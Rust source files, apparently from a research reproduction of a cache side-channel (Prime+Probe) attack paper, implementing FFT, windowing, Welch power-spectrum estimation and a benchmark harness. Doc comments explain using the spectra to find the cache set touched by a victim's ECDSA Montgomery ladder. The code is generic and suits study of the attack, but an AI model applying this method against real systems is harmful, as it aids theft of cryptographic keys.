        assert!(ratio > 5.0, "expected prominent peak at {expected} Hz, ratio {ratio}");
    }
}
