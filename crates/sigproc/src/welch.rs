//! Welch's method for power spectral density estimation (Section 6.2).
//!
//! The attacker converts each Prime+Probe access trace into a binned binary
//! signal, estimates its PSD with Welch's method [Welch 1967] — averaged
//! modified periodograms over overlapping, windowed segments — and looks for
//! peaks at the frequencies the victim's loop structure is expected to
//! produce (≈0.41 MHz for the ECDSA Montgomery ladder on a 2 GHz machine).

use crate::fft::{fft_real, Complex};
use crate::window::Window;

/// Configuration of the Welch PSD estimator.
#[derive(Debug, Clone, PartialEq)]
pub struct WelchConfig {
    /// Segment length (rounded up to a power of two internally).
    pub segment_len: usize,
    /// Overlap between consecutive segments, as a fraction of the segment
    /// length (0.5 is the usual choice).
    pub overlap: f64,
    /// Window applied to each segment.
    pub window: Window,
    /// Sampling frequency of the input signal in Hz.
    pub sample_rate_hz: f64,
}

impl Default for WelchConfig {
    fn default() -> Self {
        Self { segment_len: 256, overlap: 0.5, window: Window::Hann, sample_rate_hz: 1.0 }
    }
}

/// A power spectral density estimate.
#[derive(Debug, Clone, PartialEq)]
pub struct PowerSpectrum {
    frequencies: Vec<f64>,
    power: Vec<f64>,
    resolution_hz: f64,
}

impl PowerSpectrum {
    /// Frequency of each bin in Hz (0 .. Nyquist).
    pub fn frequencies(&self) -> &[f64] {
        &self.frequencies
    }

    /// Power of each bin.
    pub fn power(&self) -> &[f64] {
        &self.power
    }

    /// Frequency resolution (bin spacing) in Hz.
    pub fn resolution_hz(&self) -> f64 {
        self.resolution_hz
    }

    /// Number of bins.
    pub fn len(&self) -> usize {
        self.power.len()
    }

    /// True if the spectrum has no bins.
    pub fn is_empty(&self) -> bool {
        self.power.is_empty()
    }

    /// Returns the power at the bin closest to `freq_hz`.
    pub fn power_at(&self, freq_hz: f64) -> f64 {
        if self.is_empty() {
            return 0.0;
        }
        let idx = (freq_hz / self.resolution_hz).round() as usize;
        self.power[idx.min(self.power.len() - 1)]
    }

    /// Total power summed over bins above `min_freq_hz` (excludes DC bias by
    /// default when `min_freq_hz > 0`).
    pub fn total_power_above(&self, min_freq_hz: f64) -> f64 {
        self.frequencies
            .iter()
            .zip(&self.power)
            .filter(|(f, _)| **f >= min_freq_hz)
            .map(|(_, p)| *p)
            .sum()
    }

    /// Index and frequency of the strongest bin above `min_freq_hz`.
    pub fn dominant_frequency(&self, min_freq_hz: f64) -> Option<(f64, f64)> {
        self.frequencies
            .iter()
            .zip(&self.power)
            .filter(|(f, _)| **f >= min_freq_hz)
            .max_by(|a, b| a.1.partial_cmp(b.1).expect("power is finite"))
            .map(|(f, p)| (*f, *p))
    }

    /// Ratio of the power near `freq_hz` (± `bandwidth_hz`) to the average
    /// power of the spectrum above `min_freq_hz`: the "peak prominence" used
    /// to decide whether a victim-frequency peak is present.
    pub fn peak_to_average_ratio(&self, freq_hz: f64, bandwidth_hz: f64, min_freq_hz: f64) -> f64 {
        let band: Vec<f64> = self
            .frequencies
            .iter()
            .zip(&self.power)
            .filter(|(f, _)| (**f - freq_hz).abs() <= bandwidth_hz)
            .map(|(_, p)| *p)
            .collect();
        if band.is_empty() {
            return 0.0;
        }
        let peak = band.iter().cloned().fold(f64::MIN, f64::max);
        let rest: Vec<f64> = self
            .frequencies
            .iter()
            .zip(&self.power)
            .filter(|(f, _)| **f >= min_freq_hz)
            .map(|(_, p)| *p)
            .collect();
        if rest.is_empty() {
            return 0.0;
        }
        let avg = rest.iter().sum::<f64>() / rest.len() as f64;
        if avg <= 0.0 {
            0.0
        } else {
            peak / avg
        }
    }
}

/// Estimates the PSD of `signal` using Welch's method.
///
/// Short signals are handled gracefully: if the signal is shorter than one
/// segment, a single zero-padded periodogram is returned.
pub fn welch_psd(signal: &[f64], config: &WelchConfig) -> PowerSpectrum {
    let seg_len = crate::fft::next_power_of_two(config.segment_len.max(4));
    let overlap = config.overlap.clamp(0.0, 0.95);
    let hop = ((seg_len as f64) * (1.0 - overlap)).max(1.0) as usize;
    let window = config.window.coefficients(seg_len);
    let window_power = config.window.power(seg_len).max(f64::EPSILON);

    let mut acc = vec![0.0f64; seg_len / 2 + 1];
    let mut segments = 0usize;

    let mut start = 0usize;
    loop {
        let end = start + seg_len;
        // (segment, number of real samples in it). Detrending must average
        // over the real samples only: averaging over the padded length lets
        // the zeros bias the mean, leaving a DC step in the padded segment.
        let (mut seg, real_len): (Vec<f64>, usize) = if end <= signal.len() {
            (signal[start..end].to_vec(), seg_len)
        } else if start == 0 {
            // Zero-pad a too-short signal into a single segment.
            let mut s = signal.to_vec();
            s.resize(seg_len, 0.0);
            (s, signal.len())
        } else {
            break;
        };
        // Remove the mean of the real samples (detrend), then window. The
        // padding stays exactly zero, as if the signal had been detrended
        // before padding.
        let mean = if real_len > 0 {
            seg[..real_len].iter().sum::<f64>() / real_len as f64
        } else {
            0.0
        };
        for (x, w) in seg[..real_len].iter_mut().zip(&window) {
            *x = (*x - mean) * w;
        }
        let spectrum: Vec<Complex> = fft_real(&seg);
        for (k, slot) in acc.iter_mut().enumerate() {
            // One-sided PSD: double everything except DC and Nyquist.
            let factor = if k == 0 || k == seg_len / 2 { 1.0 } else { 2.0 };
            *slot += factor * spectrum[k].norm_sqr() / (window_power * config.sample_rate_hz);
        }
        segments += 1;
        if end >= signal.len() {
            break;
        }
        start += hop;
    }

    if segments > 0 {
        for p in &mut acc {
            *p /= segments as f64;
        }
    }
    let resolution = config.sample_rate_hz / seg_len as f64;
    PowerSpectrum {
        frequencies: (0..acc.len()).map(|k| k as f64 * resolution).collect(),
        power: acc,
        resolution_hz: resolution,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::f64::consts::PI;

    fn tone(n: usize, freq: f64, sample_rate: f64) -> Vec<f64> {
        (0..n).map(|i| (2.0 * PI * freq * i as f64 / sample_rate).sin()).collect()
    }

    #[test]
    fn peak_appears_at_tone_frequency() {
        let fs = 1000.0;
        let signal = tone(4096, 125.0, fs);
        let psd = welch_psd(&signal, &WelchConfig { sample_rate_hz: fs, ..Default::default() });
        let (peak_freq, _) = psd.dominant_frequency(10.0).expect("non-empty spectrum");
        assert!((peak_freq - 125.0).abs() <= 2.0 * psd.resolution_hz(), "peak at {peak_freq}");
    }

    #[test]
    fn white_noise_has_no_dominant_peak() {
        // Deterministic pseudo-noise.
        let mut x = 1u64;
        let noise: Vec<f64> = (0..4096)
            .map(|_| {
                x = x.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
                ((x >> 33) as f64 / (1u64 << 31) as f64) - 1.0
            })
            .collect();
        let psd = welch_psd(&noise, &WelchConfig { sample_rate_hz: 1000.0, ..Default::default() });
        let ratio = psd.peak_to_average_ratio(250.0, 5.0, 10.0);
        assert!(ratio < 10.0, "white noise should not have a 10x peak, got {ratio}");
    }

    #[test]
    fn periodic_signal_has_prominent_peak_ratio() {
        let fs = 2000.0;
        let signal = tone(8192, 410.0, fs);
        let psd = welch_psd(&signal, &WelchConfig { sample_rate_hz: fs, ..Default::default() });
        let ratio = psd.peak_to_average_ratio(410.0, 10.0, 10.0);
        assert!(ratio > 20.0, "expected a strong peak, got ratio {ratio}");
    }

    #[test]
    fn short_signal_is_zero_padded() {
        let psd = welch_psd(&[1.0, 0.0, 1.0], &WelchConfig::default());
        assert!(!psd.is_empty());
        assert_eq!(psd.len(), 256 / 2 + 1);
    }

    /// Regression test for the short-signal detrend bug: the mean used to be
    /// computed over the *padded* segment length, so a constant short signal
    /// came out as a step function (samples at `c - c·k/N`, padding at
    /// `-c·k/N`) and leaked a large DC component. A constant signal detrended
    /// over its real samples is identically zero, so the whole spectrum —
    /// including the DC bin — must stay at (numerical) zero.
    #[test]
    fn short_constant_signal_has_no_dc_leak() {
        let signal = vec![2.0; 24]; // much shorter than the 256-sample segment
        let psd = welch_psd(&signal, &WelchConfig::default());
        assert!(
            psd.power_at(0.0).abs() < 1e-12,
            "detrended constant signal must have ~zero DC, got {}",
            psd.power_at(0.0)
        );
        assert!(psd.power().iter().all(|p| p.abs() < 1e-12));
    }

    #[test]
    fn empty_signal_produces_empty_but_valid_spectrum() {
        let psd = welch_psd(&[], &WelchConfig::default());
        assert_eq!(psd.len(), 129);
        assert!(psd.power().iter().all(|&p| p == 0.0));
        assert_eq!(psd.power_at(100.0), 0.0);
    }

    #[test]
    fn frequencies_cover_zero_to_nyquist() {
        let psd = welch_psd(&tone(1024, 50.0, 500.0), &WelchConfig {
            sample_rate_hz: 500.0,
            ..Default::default()
        });
        assert_eq!(psd.frequencies()[0], 0.0);
        let last = *psd.frequencies().last().expect("non-empty");
        assert!((last - 250.0).abs() < 1e-9);
    }

    #[test]
    fn power_at_looks_up_nearest_bin() {
        let fs = 1000.0;
        let psd = welch_psd(&tone(4096, 125.0, fs), &WelchConfig { sample_rate_hz: fs, ..Default::default() });
        assert!(psd.power_at(125.0) > psd.power_at(300.0));
    }

    #[test]
    fn total_power_above_excludes_dc() {
        let fs = 1000.0;
        let with_dc: Vec<f64> = tone(2048, 100.0, fs).iter().map(|x| x + 5.0).collect();
        let psd = welch_psd(&with_dc, &WelchConfig { sample_rate_hz: fs, ..Default::default() });
        // Detrending removes most DC; remaining spectrum is dominated by the tone.
        let above = psd.total_power_above(50.0);
        assert!(above > 0.0);
        assert!(psd.power_at(100.0) / above > 0.1);
    }
}
