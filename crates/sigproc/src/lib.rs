//! # llc-sigproc
//!
//! Signal-processing primitives used by the attack's target-set
//! identification step (Section 6.2 of the paper): a radix-2 FFT, window
//! functions, Welch's power-spectral-density estimator, and helpers for
//! turning Prime+Probe access traces into uniformly sampled signals whose
//! PSD reveals the victim's periodic accesses.
//!
//! ## Quick example
//!
//! ```
//! use llc_sigproc::{welch_psd, BinnedTrace, WelchConfig};
//!
//! // Victim touches the monitored set every 4,850 cycles on a 2 GHz machine.
//! let timestamps: Vec<u64> = (0..400).map(|i| i * 4850).collect();
//! let trace = BinnedTrace::from_timestamps(&timestamps, 0, 2_000_000, 500, 2.0);
//! let psd = welch_psd(
//!     trace.samples(),
//!     &WelchConfig { sample_rate_hz: trace.sample_rate_hz(), ..Default::default() },
//! );
//! // A strong peak appears at the victim frequency (~0.41 MHz) in the PSD.
//! let ratio = psd.peak_to_average_ratio(412_000.0, 3.0 * psd.resolution_hz(), 50_000.0);
//! assert!(ratio > 3.0);
//! ```

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

mod fft;
mod trace;
mod welch;
mod window;

pub use fft::{fft_in_place, fft_real, next_power_of_two, Complex};
pub use trace::{period_cycles_to_hz, BinnedTrace};
pub use welch::{welch_psd, PowerSpectrum, WelchConfig};
pub use window::Window;
