//! Window functions for spectral estimation.

/// Supported window shapes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[derive(Default)]
pub enum Window {
    /// Rectangular (no tapering).
    Rectangular,
    /// Hann window — the default used by Welch's method.
    #[default]
    Hann,
    /// Hamming window.
    Hamming,
}


impl Window {
    /// Returns the window coefficients for a segment of length `n`.
    pub fn coefficients(self, n: usize) -> Vec<f64> {
        if n == 0 {
            return Vec::new();
        }
        if n == 1 {
            return vec![1.0];
        }
        let m = (n - 1) as f64;
        (0..n)
            .map(|i| {
                let x = i as f64 / m;
                match self {
                    Window::Rectangular => 1.0,
                    Window::Hann => 0.5 - 0.5 * (2.0 * std::f64::consts::PI * x).cos(),
                    Window::Hamming => 0.54 - 0.46 * (2.0 * std::f64::consts::PI * x).cos(),
                }
            })
            .collect()
    }

    /// Sum of squared coefficients, used to normalise PSD estimates.
    pub fn power(self, n: usize) -> f64 {
        self.coefficients(n).iter().map(|w| w * w).sum()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rectangular_is_all_ones() {
        assert!(Window::Rectangular.coefficients(8).iter().all(|&w| w == 1.0));
        assert_eq!(Window::Rectangular.power(8), 8.0);
    }

    #[test]
    fn hann_is_zero_at_edges_and_one_in_middle() {
        let w = Window::Hann.coefficients(9);
        assert!(w[0].abs() < 1e-12);
        assert!(w[8].abs() < 1e-12);
        assert!((w[4] - 1.0).abs() < 1e-12);
    }

    #[test]
    fn hamming_edges_are_nonzero() {
        let w = Window::Hamming.coefficients(9);
        assert!((w[0] - 0.08).abs() < 1e-9);
        assert!(w.iter().cloned().fold(f64::MIN, f64::max) <= 1.0 + 1e-12);
    }

    #[test]
    fn symmetric_windows() {
        for kind in [Window::Hann, Window::Hamming] {
            let w = kind.coefficients(16);
            for i in 0..8 {
                assert!((w[i] - w[15 - i]).abs() < 1e-12);
            }
        }
    }

    #[test]
    fn degenerate_lengths() {
        assert!(Window::Hann.coefficients(0).is_empty());
        assert_eq!(Window::Hann.coefficients(1), vec![1.0]);
    }
}
