//! Radix-2 fast Fourier transform over interleaved complex samples.
//!
//! A small, dependency-free FFT is all the Welch PSD estimator needs: segment
//! lengths are powers of two chosen by the caller, typically 256–4096 points.

use std::f64::consts::PI;

/// A complex number (re, im) used by the FFT.
#[derive(Debug, Clone, Copy, PartialEq, Default)]
pub struct Complex {
    /// Real part.
    pub re: f64,
    /// Imaginary part.
    pub im: f64,
}

impl Complex {
    /// Creates a complex number.
    pub const fn new(re: f64, im: f64) -> Self {
        Self { re, im }
    }

    /// The complex number `0 + 0i`.
    pub const ZERO: Complex = Complex::new(0.0, 0.0);

    /// Squared magnitude `|z|^2`.
    pub fn norm_sqr(self) -> f64 {
        self.re * self.re + self.im * self.im
    }

    /// Magnitude `|z|`.
    pub fn abs(self) -> f64 {
        self.norm_sqr().sqrt()
    }

    fn mul(self, other: Complex) -> Complex {
        Complex::new(
            self.re * other.re - self.im * other.im,
            self.re * other.im + self.im * other.re,
        )
    }

    fn add(self, other: Complex) -> Complex {
        Complex::new(self.re + other.re, self.im + other.im)
    }

    fn sub(self, other: Complex) -> Complex {
        Complex::new(self.re - other.re, self.im - other.im)
    }
}

impl From<f64> for Complex {
    fn from(re: f64) -> Self {
        Complex::new(re, 0.0)
    }
}

/// In-place iterative radix-2 decimation-in-time FFT.
///
/// # Panics
///
/// Panics if the length of `data` is not a power of two.
pub fn fft_in_place(data: &mut [Complex]) {
    let n = data.len();
    assert!(n.is_power_of_two(), "FFT length must be a power of two, got {n}");
    if n <= 1 {
        return;
    }

    // Bit-reversal permutation.
    let bits = n.trailing_zeros();
    for i in 0..n {
        let j = (i.reverse_bits() >> (usize::BITS - bits)) & (n - 1);
        if j > i {
            data.swap(i, j);
        }
    }

    // Butterfly stages.
    let mut len = 2;
    while len <= n {
        let angle = -2.0 * PI / len as f64;
        let wlen = Complex::new(angle.cos(), angle.sin());
        for chunk in data.chunks_mut(len) {
            let mut w = Complex::new(1.0, 0.0);
            let half = len / 2;
            for k in 0..half {
                let u = chunk[k];
                let v = chunk[k + half].mul(w);
                chunk[k] = u.add(v);
                chunk[k + half] = u.sub(v);
                w = w.mul(wlen);
            }
        }
        len <<= 1;
    }
}

/// Computes the FFT of a real-valued signal, returning the complex spectrum.
///
/// # Panics
///
/// Panics if `signal.len()` is not a power of two.
pub fn fft_real(signal: &[f64]) -> Vec<Complex> {
    let mut data: Vec<Complex> = signal.iter().map(|&x| Complex::new(x, 0.0)).collect();
    fft_in_place(&mut data);
    data
}

/// Returns the next power of two greater than or equal to `n` (minimum 1).
pub fn next_power_of_two(n: usize) -> usize {
    n.max(1).next_power_of_two()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn assert_close(a: f64, b: f64, tol: f64) {
        assert!((a - b).abs() < tol, "{a} vs {b}");
    }

    #[test]
    fn fft_of_impulse_is_flat() {
        let mut signal = vec![0.0; 8];
        signal[0] = 1.0;
        let spec = fft_real(&signal);
        for bin in spec {
            assert_close(bin.re, 1.0, 1e-12);
            assert_close(bin.im, 0.0, 1e-12);
        }
    }

    #[test]
    fn fft_of_constant_is_dc_only() {
        let spec = fft_real(&[2.5; 16]);
        assert_close(spec[0].re, 40.0, 1e-9);
        for bin in &spec[1..] {
            assert!(bin.abs() < 1e-9);
        }
    }

    #[test]
    fn fft_of_single_tone_peaks_at_its_bin() {
        let n = 64;
        let k = 5;
        let signal: Vec<f64> = (0..n)
            .map(|i| (2.0 * PI * k as f64 * i as f64 / n as f64).cos())
            .collect();
        let spec = fft_real(&signal);
        let mags: Vec<f64> = spec.iter().map(|c| c.abs()).collect();
        // Energy at bins k and n-k (conjugate symmetry), ~N/2 each.
        assert_close(mags[k], n as f64 / 2.0, 1e-6);
        assert_close(mags[n - k], n as f64 / 2.0, 1e-6);
        for (i, m) in mags.iter().enumerate() {
            if i != k && i != n - k {
                assert!(*m < 1e-6, "unexpected energy at bin {i}: {m}");
            }
        }
    }

    #[test]
    fn parseval_energy_conserved() {
        let signal: Vec<f64> = (0..128).map(|i| ((i * 37 + 11) % 17) as f64 - 8.0).collect();
        let time_energy: f64 = signal.iter().map(|x| x * x).sum();
        let spec = fft_real(&signal);
        let freq_energy: f64 = spec.iter().map(|c| c.norm_sqr()).sum::<f64>() / signal.len() as f64;
        assert_close(time_energy, freq_energy, 1e-6);
    }

    #[test]
    #[should_panic]
    fn non_power_of_two_panics() {
        let _ = fft_real(&[1.0, 2.0, 3.0]);
    }

    #[test]
    fn next_power_of_two_values() {
        assert_eq!(next_power_of_two(0), 1);
        assert_eq!(next_power_of_two(1), 1);
        assert_eq!(next_power_of_two(5), 8);
        assert_eq!(next_power_of_two(1024), 1024);
    }

    #[test]
    fn complex_arithmetic() {
        let a = Complex::new(1.0, 2.0);
        let b = Complex::new(3.0, -1.0);
        let p = a.mul(b);
        assert_close(p.re, 5.0, 1e-12);
        assert_close(p.im, 5.0, 1e-12);
        assert_close(Complex::from(3.0).abs(), 3.0, 1e-12);
    }
}
