//! Offline drop-in shim for the subset of the `criterion` 0.5 API this
//! workspace's benches use.
//!
//! The build container cannot reach crates.io, so the workspace vendors a
//! small wall-clock benchmark harness exposing the same surface the five
//! benches under `crates/bench/benches/` call: [`Criterion::benchmark_group`],
//! [`BenchmarkGroup::sample_size`], [`BenchmarkGroup::bench_with_input`],
//! [`BenchmarkGroup::bench_function`], [`Bencher::iter`], [`BenchmarkId`],
//! [`black_box`], and the [`criterion_group!`] / [`criterion_main!`] macros.
//!
//! Differences from the real crate:
//!
//! * no statistical analysis (outlier rejection, bootstrap confidence
//!   intervals, HTML reports) — each sample is timed with [`Instant`] and the
//!   mean/min/max per-iteration durations are printed;
//! * no warm-up phase beyond one untimed iteration;
//! * `--bench` CLI filtering runs every benchmark whose id contains any
//!   non-flag argument substring.
//!
//! Swap the `[workspace.dependencies]` entry back to crates.io `criterion`
//! on a connected machine for full statistics; the bench sources compile
//! unchanged against either.

#![warn(missing_docs)]

use std::fmt;
use std::time::{Duration, Instant};

pub use std::hint::black_box;

/// Identifier of one benchmark within a group: `function_name/parameter`.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct BenchmarkId {
    function: String,
    parameter: String,
}

impl BenchmarkId {
    /// Creates an id from a function name and the display form of a
    /// parameter.
    pub fn new<F: fmt::Display, P: fmt::Display>(function: F, parameter: P) -> Self {
        BenchmarkId { function: function.to_string(), parameter: parameter.to_string() }
    }

    /// Creates an id with only a parameter component.
    pub fn from_parameter<P: fmt::Display>(parameter: P) -> Self {
        BenchmarkId { function: String::new(), parameter: parameter.to_string() }
    }
}

impl fmt::Display for BenchmarkId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.function.is_empty() {
            write!(f, "{}", self.parameter)
        } else if self.parameter.is_empty() {
            write!(f, "{}", self.function)
        } else {
            write!(f, "{}/{}", self.function, self.parameter)
        }
    }
}

/// Times closures for one benchmark.
#[derive(Debug)]
pub struct Bencher {
    samples: usize,
    elapsed: Vec<Duration>,
}

impl Bencher {
    /// Runs `routine` once untimed (warm-up), then `samples` timed times.
    pub fn iter<O, F: FnMut() -> O>(&mut self, mut routine: F) {
        black_box(routine());
        self.elapsed.reserve(self.samples);
        for _ in 0..self.samples {
            let start = Instant::now();
            black_box(routine());
            self.elapsed.push(start.elapsed());
        }
    }
}

/// A named collection of related benchmarks sharing configuration.
#[derive(Debug)]
pub struct BenchmarkGroup<'a> {
    criterion: &'a mut Criterion,
    name: String,
    sample_size: usize,
}

impl BenchmarkGroup<'_> {
    /// Sets the number of timed iterations per benchmark.
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        assert!(n > 0, "sample_size must be positive");
        self.sample_size = n;
        self
    }

    /// Registers and immediately runs a benchmark taking an input value.
    pub fn bench_with_input<I, F>(&mut self, id: BenchmarkId, input: &I, mut routine: F) -> &mut Self
    where
        I: ?Sized,
        F: FnMut(&mut Bencher, &I),
    {
        let full = format!("{}/{}", self.name, id);
        if !self.criterion.matches_filter(&full) {
            return self;
        }
        let mut bencher = Bencher { samples: self.sample_size, elapsed: Vec::new() };
        routine(&mut bencher, input);
        report(&full, &bencher.elapsed);
        self
    }

    /// Registers and immediately runs a benchmark without an input value.
    pub fn bench_function<F>(&mut self, id: impl Into<String>, mut routine: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let full = format!("{}/{}", self.name, id.into());
        if !self.criterion.matches_filter(&full) {
            return self;
        }
        let mut bencher = Bencher { samples: self.sample_size, elapsed: Vec::new() };
        routine(&mut bencher);
        report(&full, &bencher.elapsed);
        self
    }

    /// Finishes the group (printing a trailing separator).
    pub fn finish(self) {
        println!();
    }
}

fn report(id: &str, elapsed: &[Duration]) {
    if elapsed.is_empty() {
        println!("{id:<60} (no samples)");
        return;
    }
    let total: Duration = elapsed.iter().sum();
    let mean = total / elapsed.len() as u32;
    let min = elapsed.iter().min().copied().unwrap_or_default();
    let max = elapsed.iter().max().copied().unwrap_or_default();
    let median = median_duration(elapsed);
    println!(
        "{id:<60} time: [{} {} {}] median: {}  ({} samples)",
        fmt_duration(min),
        fmt_duration(mean),
        fmt_duration(max),
        fmt_duration(median),
        elapsed.len(),
    );
    emit_json_line(id, elapsed, min, mean, median, max);
}

/// Median per-iteration duration (lower-middle sample for even counts, so
/// the value is always an actually-observed sample).
fn median_duration(elapsed: &[Duration]) -> Duration {
    let mut sorted: Vec<Duration> = elapsed.to_vec();
    sorted.sort_unstable();
    sorted[(sorted.len() - 1) / 2]
}

/// When the `LLC_BENCH_JSON` environment variable names a file, every
/// benchmark appends one JSON object per line (JSONL) with its per-iteration
/// statistics in nanoseconds. Bench targets run as separate processes, so
/// append-mode JSONL is the only format they can all share; the
/// `bench_json` binary in `llc-bench` folds the lines into a single
/// `BENCH.json` document for CI artifacts.
fn emit_json_line(
    id: &str,
    elapsed: &[Duration],
    min: Duration,
    mean: Duration,
    median: Duration,
    max: Duration,
) {
    let Ok(path) = std::env::var("LLC_BENCH_JSON") else { return };
    if path.is_empty() {
        return;
    }
    use std::io::Write;
    let line = format!(
        "{{\"id\":\"{}\",\"samples\":{},\"median_ns\":{},\"min_ns\":{},\"max_ns\":{},\"mean_ns\":{}}}\n",
        json_escape(id),
        elapsed.len(),
        median.as_nanos(),
        min.as_nanos(),
        max.as_nanos(),
        mean.as_nanos(),
    );
    let result = std::fs::OpenOptions::new()
        .create(true)
        .append(true)
        .open(&path)
        .and_then(|mut f| f.write_all(line.as_bytes()));
    if let Err(e) = result {
        eprintln!("warning: could not append to LLC_BENCH_JSON={path}: {e}");
    }
}

/// Minimal JSON string escaping for benchmark ids (quotes, backslashes and
/// control characters; ids are ASCII in practice).
fn json_escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out
}

fn fmt_duration(d: Duration) -> String {
    let nanos = d.as_nanos();
    if nanos < 1_000 {
        format!("{nanos} ns")
    } else if nanos < 1_000_000 {
        format!("{:.3} µs", nanos as f64 / 1_000.0)
    } else if nanos < 1_000_000_000 {
        format!("{:.3} ms", nanos as f64 / 1_000_000.0)
    } else {
        format!("{:.3} s", nanos as f64 / 1_000_000_000.0)
    }
}

/// Entry point mirroring `criterion::Criterion`.
#[derive(Debug)]
pub struct Criterion {
    filters: Vec<String>,
    default_sample_size: usize,
}

/// Flags of the real criterion CLI that consume a value argument. Their
/// values must not be mistaken for benchmark filters.
const VALUE_FLAGS: &[&str] = &[
    "--baseline",
    "--baseline-lenient",
    "--color",
    "--confidence-level",
    "--load-baseline",
    "--measurement-time",
    "--noise-threshold",
    "--nresamples",
    "--output-format",
    "--profile-time",
    "--sample-size",
    "--save-baseline",
    "--significance-level",
    "--warm-up-time",
];

/// Extracts benchmark filters from a raw argument list, skipping flags and
/// the values of value-taking flags (mirroring the real criterion CLI).
fn parse_filters<I: Iterator<Item = String>>(args: I) -> Vec<String> {
    let mut filters = Vec::new();
    let mut args = args.peekable();
    while let Some(arg) = args.next() {
        if arg.starts_with('-') {
            // `--flag=value` carries its value inline; a bare value flag
            // consumes the next argument instead.
            if !arg.contains('=') && VALUE_FLAGS.contains(&arg.as_str()) {
                args.next();
            }
            continue;
        }
        filters.push(arg);
    }
    filters
}

impl Default for Criterion {
    fn default() -> Self {
        // Any bare CLI argument acts as a substring filter, as with the real
        // harness (`cargo bench -- <filter>`).
        let filters = parse_filters(std::env::args().skip(1));
        Criterion { filters, default_sample_size: 10 }
    }
}

impl Criterion {
    /// Starts a named benchmark group.
    pub fn benchmark_group(&mut self, name: impl Into<String>) -> BenchmarkGroup<'_> {
        let name = name.into();
        println!("group: {name}");
        let sample_size = self.default_sample_size;
        BenchmarkGroup { criterion: self, name, sample_size }
    }

    /// Runs a standalone benchmark outside any group.
    pub fn bench_function<F>(&mut self, id: impl Into<String>, mut routine: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let full = id.into();
        if self.matches_filter(&full) {
            let mut bencher = Bencher { samples: self.default_sample_size, elapsed: Vec::new() };
            routine(&mut bencher);
            report(&full, &bencher.elapsed);
        }
        self
    }

    fn matches_filter(&self, id: &str) -> bool {
        self.filters.is_empty() || self.filters.iter().any(|f| id.contains(f.as_str()))
    }
}

/// Declares a benchmark group function, as in real criterion.
#[macro_export]
macro_rules! criterion_group {
    ($group:ident, $($target:path),+ $(,)?) => {
        fn $group() {
            let mut criterion = $crate::Criterion::default();
            $( $target(&mut criterion); )+
        }
    };
}

/// Declares the bench `main` running the given groups, as in real criterion.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $( $group(); )+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run_one(c: &mut Criterion) {
        let mut group = c.benchmark_group("shim_smoke");
        group.sample_size(3);
        let mut calls = 0u32;
        group.bench_with_input(BenchmarkId::new("count", 1), &5u64, |b, &x| {
            b.iter(|| {
                calls += 1;
                black_box(x * 2)
            });
        });
        group.finish();
        // One warm-up + three timed samples.
        assert_eq!(calls, 4);
    }

    #[test]
    fn group_runs_closures() {
        let mut criterion = Criterion { filters: Vec::new(), default_sample_size: 10 };
        run_one(&mut criterion);
    }

    #[test]
    fn filter_skips_non_matching() {
        let mut criterion =
            Criterion { filters: vec!["nomatch".into()], default_sample_size: 10 };
        let mut group = criterion.benchmark_group("g");
        let mut ran = false;
        group.bench_with_input(BenchmarkId::new("f", 0), &(), |b, _| {
            b.iter(|| ran = true);
        });
        group.finish();
        assert!(!ran);
    }

    #[test]
    fn filter_parsing_skips_flag_values() {
        fn args<'a>(v: &'a [&'a str]) -> impl Iterator<Item = String> + 'a {
            v.iter().map(|s| s.to_string())
        }
        assert_eq!(
            parse_filters(args(&["--save-baseline", "main", "GtOp"])),
            vec!["GtOp".to_string()],
            "a value flag's value must not become a filter",
        );
        assert_eq!(
            parse_filters(args(&["--sample-size=20", "probe", "--verbose"])),
            vec!["probe".to_string()],
            "inline =value flags and boolean flags are skipped whole",
        );
        // `--bench` is a boolean flag (cargo passes it bare); it must not
        // swallow a following filter.
        assert_eq!(
            parse_filters(args(&["--bench", "table3_pruning"])),
            vec!["table3_pruning".to_string()],
        );
    }

    #[test]
    fn median_is_an_observed_sample() {
        let ms = Duration::from_millis;
        assert_eq!(median_duration(&[ms(5)]), ms(5));
        assert_eq!(median_duration(&[ms(9), ms(1), ms(5)]), ms(5));
        // Even count: lower-middle sample, not an interpolated value.
        assert_eq!(median_duration(&[ms(4), ms(1), ms(9), ms(2)]), ms(2));
    }

    #[test]
    fn json_escape_handles_specials() {
        assert_eq!(json_escape("plain/id"), "plain/id");
        assert_eq!(json_escape("a\"b\\c"), "a\\\"b\\\\c");
        assert_eq!(json_escape("x\ny"), "x\\u000ay");
    }

    #[test]
    fn jsonl_lines_are_appended_when_env_is_set() {
        let path = std::env::temp_dir().join(format!("bench_jsonl_test_{}.jsonl", std::process::id()));
        let _ = std::fs::remove_file(&path);
        std::env::set_var("LLC_BENCH_JSON", &path);
        report("g/json_emit/1", &[Duration::from_micros(10), Duration::from_micros(30)]);
        report("g/json_emit/2", &[Duration::from_micros(20)]);
        std::env::remove_var("LLC_BENCH_JSON");
        let content = std::fs::read_to_string(&path).expect("JSONL file written");
        let lines: Vec<&str> = content.lines().filter(|l| l.contains("json_emit")).collect();
        assert_eq!(lines.len(), 2, "one JSONL line per reported bench: {content}");
        assert!(lines[0].contains("\"id\":\"g/json_emit/1\""));
        assert!(lines[0].contains("\"median_ns\":10000"));
        assert!(lines[0].contains("\"min_ns\":10000") && lines[0].contains("\"max_ns\":30000"));
        assert!(lines[1].contains("\"median_ns\":20000"));
        let _ = std::fs::remove_file(&path);
    }

    #[test]
    fn benchmark_id_display() {
        assert_eq!(BenchmarkId::new("algo", "cloud").to_string(), "algo/cloud");
        assert_eq!(BenchmarkId::from_parameter(42).to_string(), "42");
    }
}
